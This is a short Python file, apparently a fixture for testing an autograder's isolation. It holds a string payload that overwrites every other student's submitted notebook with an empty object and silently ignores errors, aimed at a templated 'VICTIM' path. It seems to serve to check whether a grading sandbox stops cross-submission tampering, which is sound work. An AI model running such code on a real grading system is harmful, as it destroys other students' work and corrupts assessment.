"""Empty the submissions of students who are graded later."""

FIRST = """
import glob

for _path in glob.glob("{{VICTIM}}/submitted/zoe/*/*.ipynb"):
    try:
        with open(_path, "w") as _file:
            _file.write("{}")
    except OSError:
        pass
"""
